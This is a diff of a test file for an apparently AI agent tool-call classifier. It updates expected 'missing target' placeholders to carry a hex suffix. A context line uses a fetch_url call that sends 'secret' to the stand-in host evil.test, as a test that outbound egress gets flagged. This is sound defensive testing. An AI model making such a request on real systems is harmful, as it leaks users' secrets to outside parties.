@@ -22,7 +22,9 @@ describe('classifier rules: provenance fields', () => {
       targets: ['email:a@x.org'],
     });
     // Without the flag a write with its target argument missing names a target nothing validates.
-    expect(classify.describe('delete_file', {}).targets).toEqual(['?missing:delete_file']);
+    expect(classify.describe('delete_file', {}).targets).toEqual([
+      expect.stringMatching(/^\?missing:delete_file@[0-9a-f]{16}$/),
+    ]);
     expect(classify.explain('create_event', {}).detail).toContain('none given (optional)');
   });
 
@@ -34,7 +36,10 @@ describe('classifier rules: provenance fields', () => {
       targets: ['file:notes.md'],
     });
     // Its other target arguments still bind, and fail closed when absent.
-    expect(classify.describe('share_new', { name: 'a.md' }).targets).toEqual(['?missing:share_new', 'file:a.md']);
+    expect(classify.describe('share_new', { name: 'a.md' }).targets).toEqual([
+      expect.stringMatching(/^\?missing:share_new@[0-9a-f]{16}$/),
+      'file:a.md',
+    ]);
     expect(classify.describe('fetch_url', { url: 'https://evil.test/?q=secret' })).toEqual({
       kind: 'read',
       egress: true,
